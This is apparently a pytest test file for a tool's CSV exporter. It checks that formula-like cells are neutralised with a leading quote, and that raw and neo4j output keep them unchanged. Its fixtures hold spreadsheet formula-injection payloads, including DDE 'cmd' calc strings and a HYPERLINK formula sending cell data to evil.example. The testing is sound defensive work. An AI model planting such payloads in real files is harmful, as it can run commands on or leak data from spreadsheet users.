"""CSV export and spreadsheet formula injection: text cells that a spreadsheet would run as
a formula get a ``'`` in front by default, ``--raw-csv`` writes them as they are, and the
neo4j CSVs (read by neo4j-admin, not a spreadsheet) are always raw."""

from __future__ import annotations

import csv
import io
import json
import zipfile
from pathlib import Path

import pytest
from typer.testing import CliRunner, Result

from kgraph.cli import app, console
from kgraph.exporters.csv import guard, unguard

runner = CliRunner()

# a schema of its own, with numeric attributes (attribute *names* are identifiers, checked
# by the schema; a formula-like column name from a graph built in Python is tested below)
DATA = {
    "schema.yaml": """\
entity_types:
  widget:
    label: Widget
    attributes:
      code: string
      delta: integer
      ratio: number
      evil: string
relation_types:
  linked_to:
    source: [widget]
    target: [widget]
    reading: linked to
""",
    "sources.yaml": """\
sources:
  - id: memo
    title: "=cmd|' /C calc'!A0"
    publisher: "@SUM(1+1)*cmd|' /C calc'!A0"
    file: memo.txt
""",
    "entities.yaml": """\
entities:
  - id: w1
    type: widget
    name: '=HYPERLINK("http://evil.example/?x="&A1, "click")'
    aliases: ["+1+2", "plain"]
    description: "-2+3+cmd|' /C calc'!A0"
    code: "\\t=1+1"
    delta: -5
    ratio: -1.5
    evil: "\\r=2+2"
    notes: "'=already quoted"
    source: memo
    quote: w1
  - id: w2
    type: widget
    name: Plain name, with a comma
    description: a=b is not a formula
    code: "1-2"
    delta: 3
    source: memo
    quote: w2
""",
    "relations.yaml": """\
relations:
  - from: w1
    type: linked_to
    to: w2
    description: "@now"
    source: memo
    quote: "=w1 linked to w2"
""",
}

HOSTILE = {  # the value as written in the data -> as a spreadsheet-safe cell
    '=HYPERLINK("http://evil.example/?x="&A1, "click")':
        '\'=HYPERLINK("http://evil.example/?x="&A1, "click")',
    "-2+3+cmd|' /C calc'!A0": "'-2+3+cmd|' /C calc'!A0",
    "\t=1+1": "'\t=1+1",
    "\r=2+2": "'\r=2+2",
    "'=already quoted": "''=already quoted",
    "=cmd|' /C calc'!A0": "'=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0": "'@SUM(1+1)*cmd|' /C calc'!A0",
    "@now": "'@now",
    "=evil()": "'=evil()",
}


@pytest.fixture
def data(tmp_path: Path) -> Path:
    root = tmp_path / "data"
    root.mkdir()
    for name, text in DATA.items():
        (root / name).write_text(text, encoding="utf-8")
    return root


def export(*args: str) -> Result:
    console.reset()
    result = runner.invoke(app, ["export", *args])
    console.reset()
    assert "Traceback" not in result.output
    assert result.exception is None or isinstance(result.exception, SystemExit)
    return result


def table(text: str) -> list[dict[str, str]]:
    rows = list(csv.reader(io.StringIO(text, newline="")))
    return [dict(zip(rows[0], r)) for r in rows[1:]]


def is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def read(directory: Path) -> dict[str, str]:
    return {p.name: p.read_bytes().decode("utf-8") for p in directory.iterdir()}


@pytest.mark.parametrize("value,cell", [
    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@A1", "'@A1"), ("\t=1", "'\t=1"),
    ("\r=1", "'\r=1"), ("'=1", "''=1"), ("''@x", "'''@x"),
    ("", ""), ("'", "'"), ("'x", "'x"), ("a=1", "a=1"), (" =1", " =1"), ("1-2", "1-2"),
    ("\n=1", "\n=1"), ("[1]", "[1]"), ("{}", "{}"), ("ok", "ok"),
])
def test_guard_and_unguard(value: str, cell: str) -> None:
    assert guard(value) == cell
    assert unguard(cell) == value


def test_csv_cells_are_guarded_by_default(data: Path, tmp_path: Path) -> None:
    out = tmp_path / "csv"
    result = export("csv", "-o", str(out), "--data", str(data), "--with-notes")
    assert result.exit_code == 0, result.output
    files = read(out)
    nodes = {r["id"]: r for r in table(files["nodes.csv"])}
    w1, w2 = nodes["w1"], nodes["w2"]
    assert w1["name"] == HOSTILE['=HYPERLINK("http://evil.example/?x="&A1, "click")']
    assert w1["description"] == HOSTILE["-2+3+cmd|' /C calc'!A0"]
    assert w1["code"] == HOSTILE["\t=1+1"]
    assert w1["notes"] == HOSTILE["'=already quoted"]
    assert w1["evil"] == HOSTILE["\r=2+2"]
    assert json.loads(w1["aliases"]) == ["+1+2", "plain"]  # JSON starts with '['
    assert (w1["delta"], w1["ratio"]) == ("-5", "-1.5")  # numbers stay numbers
    assert w2["name"] == "Plain name, with a comma" and w2["code"] == "1-2"
    assert w2["description"] == "a=b is not a formula"
    (edge,) = table(files["edges.csv"])
    assert edge["description"] == "'@now"
    (source,) = table(files["sources.csv"])
    assert source["title"] == HOSTILE["=cmd|' /C calc'!A0"]
    assert source["publisher"] == HOSTILE["@SUM(1+1)*cmd|' /C calc'!A0"]
    # no cell anywhere starts a formula (but a number), and the data package names the
    # guarded column
    for name in ("nodes.csv", "edges.csv", "sources.csv"):
        for row in csv.reader(io.StringIO(files[name], newline="")):
            for cell in row:
                assert cell[:1] not in ("=", "+", "-", "@", "\t", "\r") or is_number(cell)
    package = json.loads(files["datapackage.json"])
    fields_by_name = {f["name"]: f["type"] for f in package["resources"][0]["schema"]["fields"]}
    assert fields_by_name["delta"] == "integer" and fields_by_name["ratio"] == "number"
    # every guarded cell reads back as the data's value
    assert unguard(w1["name"]) == '=HYPERLINK("http://evil.example/?x="&A1, "click")'
    assert unguard(w1["notes"]) == "'=already quoted"

    zipped = tmp_path / "csv.zip"
    assert export("csv", "-o", str(zipped), "--data", str(data), "--with-notes").exit_code == 0
    with zipfile.ZipFile(zipped) as z:
        assert {n: z.read(n).decode("utf-8") for n in z.namelist()} == files


def test_raw_csv_writes_the_values_as_they_are(data: Path, tmp_path: Path) -> None:
    out = tmp_path / "raw"
    result = export("csv", "-o", str(out), "--data", str(data), "--raw-csv", "--with-notes")
    assert result.exit_code == 0, result.output
    files = read(out)
    nodes = {r["id"]: r for r in table(files["nodes.csv"])}
    w1 = nodes["w1"]
    assert w1["name"] == '=HYPERLINK("http://evil.example/?x="&A1, "click")'
    assert w1["description"] == "-2+3+cmd|' /C calc'!A0"
    assert w1["code"] == "\t=1+1"
    assert w1["evil"] == "\r=2+2"
    assert w1["notes"] == "'=already quoted"
    (source,) = table(files["sources.csv"])
    assert source["title"] == "=cmd|' /C calc'!A0"


def test_column_names_are_guarded_too(tmp_path: Path) -> None:
    """Attribute names from a schema are identifiers; a graph built in Python may hold any
    name, and a formula-like one is guarded in the header and the data package."""
    import networkx as nx

    from kgraph.api import KnowledgeGraph
    from kgraph.exporters import export as write
    from kgraph.schema import Schema

    g = nx.MultiDiGraph()
    g.add_node("w1", type="widget", name="w", **{"=evil()": "\r=2+2"})
    kg = KnowledgeGraph(g, Schema(), {})
    write(kg, "csv", tmp_path / "guarded")
    (w1,) = table((tmp_path / "guarded" / "nodes.csv").read_bytes().decode())
    assert w1["'=evil()"] == "'\r=2+2"
    package = json.loads((tmp_path / "guarded" / "datapackage.json").read_text())
    fields = [f["name"] for f in package["resources"][0]["schema"]["fields"]]
    assert "'=evil()" in fields and "=evil()" not in fields
    write(kg, "csv", tmp_path / "raw", raw=True)
    (w1,) = table((tmp_path / "raw" / "nodes.csv").read_bytes().decode())
    assert w1["=evil()"] == "\r=2+2"


def test_neo4j_csvs_stay_raw(data: Path, tmp_path: Path) -> None:
    out = tmp_path / "neo4j"
    result = export("neo4j", "-o", str(out), "--data", str(data))
    assert result.exit_code == 0, result.output
    nodes = {r["id:ID"]: r for r in table((out / "nodes.csv").read_bytes().decode())}
    assert nodes["w1"]["name"] == '=HYPERLINK("http://evil.example/?x="&A1, "click")'
    assert nodes["w1"]["description"] == "-2+3+cmd|' /C calc'!A0"
    (rel,) = table((out / "relationships.csv").read_bytes().decode())
    assert rel["description"] == "@now"


@pytest.mark.parametrize("fmt,target", [("neo4j", "n"), ("json", "g.json"),
                                        ("graphml", "g.graphml")])
def test_raw_csv_is_for_csv_only(fmt: str, target: str, data: Path, tmp_path: Path) -> None:
    result = export(fmt, "-o", str(tmp_path / target), "--data", str(data), "--raw-csv")
    assert result.exit_code == 2
    assert result.stderr.startswith("kgraph: --raw-csv applies to the csv format only")
    assert not (tmp_path / target).exists()
